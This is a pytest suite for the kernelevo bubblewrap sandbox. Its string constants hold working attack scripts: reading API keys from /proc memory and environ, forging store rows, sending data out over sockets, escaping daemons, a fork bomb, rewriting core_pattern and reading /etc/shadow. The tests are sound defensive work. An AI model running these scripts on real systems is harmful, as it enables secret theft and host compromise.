"""The sandbox against a deliberate attacker (docs: the threat model's attack classes).

Each attack runs as a worker would meet the engine (harness.py) and is checked sandboxed;
where it is safe, the same attack is also run unsandboxed to show it works there, so each
test fails without the defence it is about.
"""

import json
import os
import socket
import sqlite3
import sys
import threading
import time
from pathlib import Path

import pytest
from harness import ENCODED, KEY, run_attack

DIGEST = __import__("hashlib").sha256(KEY.encode()).hexdigest()

pytestmark = pytest.mark.skipif(
    not __import__("shutil").which("bwrap"), reason="bubblewrap is not installed"
)

FORGE_STORE = r"""
import json, os, sqlite3, sys
engine, workspace = sys.argv[1], sys.argv[2]
done = []
for path in (f"/proc/{os.getppid()}/cwd/.kernelevo/store.sqlite", f"/proc/{engine}/cwd/.kernelevo/store.sqlite",
             f"{workspace}/.kernelevo/store.sqlite"):
    try:
        db = sqlite3.connect(path, timeout=2)
        db.execute("INSERT OR REPLACE INTO verdicts VALUES ('forged-task', 'forged-cand', 'k', 'verified', ?, 0)",
                   (json.dumps({"status": "verified", "reason": "forged"}),))
        db.commit()
        done.append(path)
    except Exception as exc:
        pass
print(json.dumps({"forged": done}))
"""


def _forged_rows(workspace: Path) -> int:
    db = sqlite3.connect(workspace / ".kernelevo" / "store.sqlite")
    try:
        return db.execute("SELECT COUNT(*) FROM verdicts WHERE task_hash='forged-task'").fetchone()[
            0
        ]
    finally:
        db.close()


def test_forging_store_rows_through_proc_ppid_cwd(tmp_path):
    report = run_attack(FORGE_STORE, tmp_path / "ws")
    assert report["attack"] == {"forged": []} and _forged_rows(tmp_path / "ws") == 0
    control = run_attack(FORGE_STORE, tmp_path / "open", isolate=False)
    assert control["attack"]["forged"] and _forged_rows(tmp_path / "open") > 0


# The attacker is given only a hash of the key (the key itself on its command line would be
# found in bwrap's): it looks for anything shaped like a key and compares hashes.
FIND_KEY = r"""
import hashlib, re
def has_key(data, digest):
    return any(hashlib.sha256(m).hexdigest() == digest for m in re.findall(rb"sk-ant-api03-[A-Za-z0-9-]{20,}", data))
"""

READ_ENGINE = (
    FIND_KEY
    + r"""
import json, os, sys
engine, digest = sys.argv[1], sys.argv[4]
found = []
for pid in {str(os.getppid()), engine, "1"}:
    try:
        if has_key(open(f"/proc/{pid}/environ", "rb").read(), digest):
            found.append(f"environ of {pid}")
    except OSError:
        pass
    try:
        if has_key(open(f"/proc/{pid}/cmdline", "rb").read(), digest):
            found.append(f"cmdline of {pid}")
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" not in line.split()[1] or hi - lo > 1 << 28:
                    continue
                try:
                    mem.seek(lo)
                    if has_key(mem.read(hi - lo), digest):
                        found.append(f"memory of {pid}")
                        break
                except (OSError, ValueError, OverflowError):
                    continue
    except OSError:
        pass
visible = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
leaked = [k for k, v in os.environ.items() if has_key(v.encode(), digest) or k == "KERNELEVO_CONFIG"]
print(json.dumps({"found": found, "env": leaked, "processes": visible}))
"""
)


def test_reading_the_engines_environ_cmdline_and_memory(tmp_path):
    report = run_attack(READ_ENGINE, tmp_path / "ws", args=(DIGEST,))
    attack = report["attack"]
    assert attack["found"] == [] and attack["env"] == []
    assert len(attack["processes"]) <= 3, attack[
        "processes"
    ]  # bwrap's init and the attacker: no engine
    control = run_attack(READ_ENGINE, tmp_path / "open", isolate=False, args=(DIGEST,))["attack"]
    assert any(f.startswith("environ") for f in control["found"])
    assert any(f.startswith("memory") for f in control["found"])


READ_CONFIG = (
    FIND_KEY
    + r"""
import json, os, sys
config, digest = sys.argv[3], sys.argv[4]
paths = [config, os.environ.get("KERNELEVO_CONFIG") or "", os.path.expanduser("~/.config/kernelevo/config.toml"),
         f"/proc/{sys.argv[1]}/cwd/secret-config.toml", f"/proc/{os.getppid()}/cwd/secret-config.toml"]
found = []
for path in paths:
    try:
        if has_key(open(path, "rb").read(), digest):
            found.append(path)
    except OSError:
        pass
fds = []
for fd in range(3, 256):
    try:
        if has_key(os.read(fd, 1 << 16), digest):
            fds.append(fd)
    except OSError:
        pass
print(json.dumps({"found": found, "fds": fds}))
"""
)


def test_reading_the_kernelevo_config_file(tmp_path):
    attack = run_attack(READ_CONFIG, tmp_path / "ws", args=(DIGEST,))["attack"]
    assert attack == {"found": [], "fds": []}
    control = run_attack(READ_CONFIG, tmp_path / "open", isolate=False, args=(DIGEST,))["attack"]
    assert control["found"]


WRITE_OUTSIDE = r"""
import json, os, sys
engine, workspace, tag = sys.argv[1], sys.argv[2], sys.argv[4]
targets = [f"{workspace}/{tag}", f"/proc/{engine}/cwd/{tag}", f"/proc/{os.getppid()}/cwd/{tag}",
           f"/root/{tag}", f"/tmp/{tag}", f"/dev/shm/{tag}", f"/usr/{tag}", f"/etc/{tag}", f"{sys.argv[5]}/{tag}",
           f"{workspace}/.kernelevo/{tag}"]
written = []
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("x")
        written.append(path)
    except OSError:
        pass
with open(os.path.join(os.environ["HOME"], tag), "w") as f:  # its scratch folder: allowed
    f.write("ok")
print(json.dumps({"written": written}))
"""


def _host_files(workspace: Path, tag: str, package: Path) -> list[str]:
    places = [
        workspace / tag,
        Path("/root") / tag,
        Path("/tmp") / tag,
        Path("/dev/shm") / tag,
        Path("/usr") / tag,
        Path("/etc") / tag,
        package / tag,
        workspace / ".kernelevo" / tag,
    ]
    return [str(p) for p in places if p.exists()]


def test_nothing_written_outside_scratch(tmp_path):
    from kernelevo.sandbox.mounts import package_root

    tag, pkg = f"kx-{os.getpid()}-{time.time_ns()}", package_root() / "kernelevo"
    report = run_attack(WRITE_OUTSIDE, tmp_path / "ws", args=(tag, str(pkg)))
    try:
        assert _host_files(tmp_path / "ws", tag, pkg) == []
        assert not Path(report["scratch"]).exists()  # the scratch folder went with the process
        control = run_attack(WRITE_OUTSIDE, tmp_path / "open", isolate=False, args=(tag, str(pkg)))
        assert str(tmp_path / "open" / tag) in control["attack"]["written"]
    finally:
        for leftover in set(
            _host_files(tmp_path / "ws", tag, pkg) + _host_files(tmp_path / "open", tag, pkg)
        ):
            os.unlink(leftover)


OPEN_SOCKETS = r"""
import json, sys, _socket
port = int(sys.argv[4])
reached = []
for family, address in ((_socket.AF_INET, ("127.0.0.1", port)), (_socket.AF_INET, ("1.1.1.1", 53))):
    s = _socket.socket(family, _socket.SOCK_STREAM)
    s.settimeout(1.0)
    try:
        s.connect(address)
        s.sendall(b"stolen")
        reached.append(address[0])
    except OSError:
        pass
    finally:
        s.close()
print(json.dumps({"reached": reached}))
"""


def test_no_network_even_through_the_socket_module(tmp_path):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    got: list[bytes] = []

    def accept():
        server.settimeout(30)
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            got.append(conn.recv(16))
            conn.close()

    threading.Thread(target=accept, daemon=True).start()
    port = str(server.getsockname()[1])
    try:
        attack = run_attack(OPEN_SOCKETS, tmp_path / "ws", args=(port,))["attack"]
        assert attack == {"reached": []} and got == []
        control = run_attack(OPEN_SOCKETS, tmp_path / "open", isolate=False, args=(port,))["attack"]
        assert "127.0.0.1" in control["reached"]
    finally:
        server.close()


DAEMON = r"""
import json, os, subprocess, sys, time
tag = sys.argv[4]
if os.fork() == 0:  # double fork + setsid: the classic daemon
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", tag + "-forked"])
    os._exit(0)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", tag + "-spawned"], start_new_session=True,
                 close_fds=True)
os.posix_spawn(sys.executable, [sys.executable, "-c", "import os, time; os.setsid(); time.sleep(300)",
                                tag + "-posix"], os.environ)
time.sleep(0.5)
print(json.dumps({"started": True}), flush=True)
"""


def _alive_with(tag: str) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes()
                state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if tag.encode() in cmd and state != "Z":
                pids.append(int(entry))
    return pids


def test_no_daemon_outlives_the_sandbox(tmp_path):
    tag = f"kx-daemon-{os.getpid()}-{time.time_ns()}"
    report = run_attack(DAEMON, tmp_path / "ws", args=(tag,))
    assert report["attack"] == {"started": True}
    assert _alive_with(tag) == []
    control_tag = tag + "-control"
    run_attack(
        DAEMON, tmp_path / "open", isolate=False, limits={"cgroup": False}, args=(control_tag,)
    )
    survivors = _alive_with(control_tag)
    try:
        assert len(survivors) >= 2  # without namespaces or a cgroup, setsid daemons escape the kill
    finally:
        for pid in survivors:
            os.kill(pid, 9)


def test_a_cgroup_alone_kills_escaped_daemons_where_one_can_be_made(tmp_path):
    from kernelevo.sandbox.limits import Cgroup
    from kernelevo.sandbox.spec import Limits

    group = Cgroup(f"kernelevo-probe-{os.getpid()}", Limits())
    usable = bool(group.dirs)
    group.remove()
    if not usable:
        pytest.skip("no cgroup can be made on this machine")
    tag = f"kx-cg-{os.getpid()}-{time.time_ns()}"
    run_attack(DAEMON, tmp_path / "open", isolate=False, args=(tag,))
    assert _alive_with(tag) == []


MEMORY = r"""
import json
chunks, got = [], 0
try:
    while got < (8 << 30):
        chunks.append(bytearray(64 << 20))
        got += 64 << 20
except MemoryError:
    pass
print(json.dumps({"allocated": got}))
"""


def test_memory_is_bounded(tmp_path):
    attack = run_attack(MEMORY, tmp_path / "ws", limits={"memory_bytes": 768 << 20})["attack"]
    assert attack["allocated"] < 768 << 20


FLOOD = r"""
import os, sys, time
os.write(2, b"BEGIN-OF-FLOOD\n")
block = b"y" * (1 << 20)
t0 = time.monotonic()
for i in range(2048):  # 2 GiB, as fast as the pipe takes it
    os.write(1 if i % 2 else 2, block)
os.write(2, b"\nEND-OF-FLOOD\n")
"""


def test_unbounded_output_is_capped_head_and_tail_kept(tmp_path):
    report = run_attack(FLOOD, tmp_path / "ws", limits={"output_flood_bytes": 1 << 40})
    text = report["output"]
    assert report["total"] >= 2 << 30 and not report["flooded"]
    assert len(text) < 70_000
    assert text.startswith("BEGIN-OF-FLOOD") and text.rstrip().endswith("END-OF-FLOOD")
    assert "bytes of output left out" in text


def test_a_flood_past_the_limit_stops_the_process(tmp_path):
    report = run_attack(FLOOD, tmp_path / "ws", limits={"output_flood_bytes": 64 << 20})
    assert report["flooded"] and report["total"] < 256 << 20 and report["exit"] != 0
    assert (
        report["output"].startswith("BEGIN-OF-FLOOD") and "killed for flooding" in report["output"]
    )


FDS = r"""
import json, os, struct
mine = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
forged = []
frame = b'\x81\xa6status\xa8verified'
for fd in mine:
    if fd > 2:
        try:
            os.write(fd, struct.pack(">I", len(frame)) + frame)
            forged.append(fd)
        except OSError:
            pass
print(json.dumps({"fds": mine, "forged": forged}))
"""


def test_no_inherited_descriptors_to_forge_frames_on(tmp_path):
    attack = run_attack(FDS, tmp_path / "ws")["attack"]
    assert attack["forged"] == []
    assert [fd for fd in attack["fds"] if fd > 2] in (
        [],
        [3],
    )  # 3: the listing's own directory handle
    import subprocess
    import sys

    a, b = socket.socketpair()
    os.set_inheritable(a.fileno(), True)
    try:  # the same probe, handed an open descriptor the ordinary way, does find and write it
        out = subprocess.run(
            [sys.executable, "-c", FDS], close_fds=False, capture_output=True, text=True
        )
        assert a.fileno() in __import__("json").loads(out.stdout)["forged"]
    finally:
        a.close()
        b.close()


def test_encoded_forms_of_a_key_are_all_masked():
    from kernelevo.llm.redact import contains_secret, redact, register_secret

    register_secret(KEY)
    for name, form in ENCODED.items():
        text = f"RuntimeError: leaked {form} here"
        assert KEY not in redact(text) and form not in redact(text), name
        assert contains_secret(text), name
    import base64

    for prefix in ("", "a", "ab"):  # the key inside a longer base64 text, at each alignment
        blob = base64.b64encode(f"{prefix}token={KEY};".encode()).decode()
        assert base64.b64decode(blob).find(KEY.encode()) >= 0 and contains_secret(blob)
        masked = redact(blob)
        assert KEY.encode() not in base64.b64decode(
            masked.replace("***", "AAAA") + "==", validate=False
        )


FORK_BOMB = r"""
import json, os, time  # kx-fork-bomb
born = 0
for _ in range(400):  # a bounded bomb: enough to cross the limit, not to hurt the machine
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
    born += 1
print(json.dumps({"born": born}), flush=True)
time.sleep(60)
"""

PIN_MEMORY = r"""
import json, mmap, time
# shared anonymous memory, like pinned CUDA host memory: RLIMIT_DATA does not count it
maps = []
for _ in range(16):
    m = mmap.mmap(-1, 64 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    m.write(b"x" * (64 << 20))
    maps.append(m)
print(json.dumps({"pinned_mib": 64 * len(maps)}), flush=True)
time.sleep(60)
"""


def _watched(code: str, limits, gpu: bool = False):
    import sys

    from kernelevo.sandbox import SandboxSpec, spawn

    t0 = time.monotonic()
    proc = spawn(
        SandboxSpec([sys.executable, "-I", "-c", code], limits=limits, gpu=gpu), channel=False
    )
    try:
        proc.wait(timeout=50)
    finally:
        proc.close()
    return proc, time.monotonic() - t0


def test_without_a_cgroup_a_fork_bomb_is_stopped_from_outside():
    from kernelevo.sandbox import Limits

    proc, took = _watched(FORK_BOMB, Limits(cgroup=False, processes=64))
    assert proc.stopped_for == "more than 64 processes" and took < 30
    assert _alive_with("kx-fork-bomb") == []


def test_without_a_cgroup_memory_the_data_limit_misses_is_stopped_from_outside():
    from kernelevo.sandbox import Limits

    proc, took = _watched(PIN_MEMORY, Limits(cgroup=False, memory_bytes=512 << 20), gpu=True)
    assert proc.stopped_for == "more than 512 MiB resident" and took < 30
    assert '"pinned_mib": 1024' not in proc.output.text()


HOST_SETTINGS = r"""
import json
done = []
for path in ("/proc/sys/kernel/core_uses_pid", "/proc/sys/kernel/core_pattern"):
    try:
        current = open(path).read()
        with open(path, "w") as f:  # the value it already has: nothing changes even where this works
            f.write(current)
        done.append(path)
    except OSError:
        pass
try:
    readable = len(open("/etc/shadow").read()) > 0
except OSError:
    readable = False
print(json.dumps({"wrote": done, "shadow": readable}))
"""


def test_the_hosts_kernel_settings_and_password_hashes_are_out_of_reach(tmp_path):
    """The sandboxed process is uid 0 without capabilities: the kernel would still let it write
    sysctls it owns (core_pattern runs a program as root on the host at the next crash)."""
    attack = run_attack(HOST_SETTINGS, tmp_path / "ws")["attack"]
    assert attack == {"wrote": [], "shadow": False}
    if os.getuid() == 0:
        control = run_attack(HOST_SETTINGS, tmp_path / "open", isolate=False)["attack"]
        assert control["wrote"] and control["shadow"]


READ_ROOT_ONLY = r"""
import json, os, sys
seen = {"uid": os.getuid()}
try:
    seen["read"] = open(sys.argv[1]).read()
except OSError as exc:
    seen["read"] = f"refused: {exc.strerror}"
try:
    os.kill(1, 0)
    seen["signal_init"] = True
except OSError:
    seen["signal_init"] = False
print(json.dumps(seen))
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="only root's sandboxes drop to a uid of their own")
def test_candidate_code_runs_as_an_unprivileged_uid(tmp_path, monkeypatch):
    """As uid 0 without capabilities a sandbox still reads every root-owned file a bind exposes
    (mode 0600 included); the runner host and the compile worker run as a uid of their own."""
    import dataclasses

    from kernelevo.sandbox import spawn
    from kernelevo.worker.pool import Worker

    secret = tmp_path / "root-only"
    secret.write_text("root's own")
    secret.chmod(0o600)

    def run(uid_env: str | None) -> dict:
        if uid_env is None:
            monkeypatch.delenv("KERNELEVO_SANDBOX_UID", raising=False)
        else:
            monkeypatch.setenv("KERNELEVO_SANDBOX_UID", uid_env)
        worker = Worker("cpu", module="kernelevo.runner.host")
        spec = dataclasses.replace(
            worker.spec(),
            argv=[sys.executable, "-I", "-c", READ_ROOT_ONLY, str(secret)],
            read_only=[*worker.spec().read_only, tmp_path],
        )
        try:
            with spawn(spec, channel=False) as proc:
                proc.wait(timeout=60)
                return json.loads(proc.output.text().strip().splitlines()[-1])
        finally:
            worker.close()

    as_root = run("0")  # the old arrangement, to show what the uid change stops
    assert as_root["uid"] == 0 and as_root["read"] == "root's own"
    dropped = run(None)
    assert dropped["uid"] >= 1_000_000, dropped
    assert dropped["read"].startswith("refused"), dropped
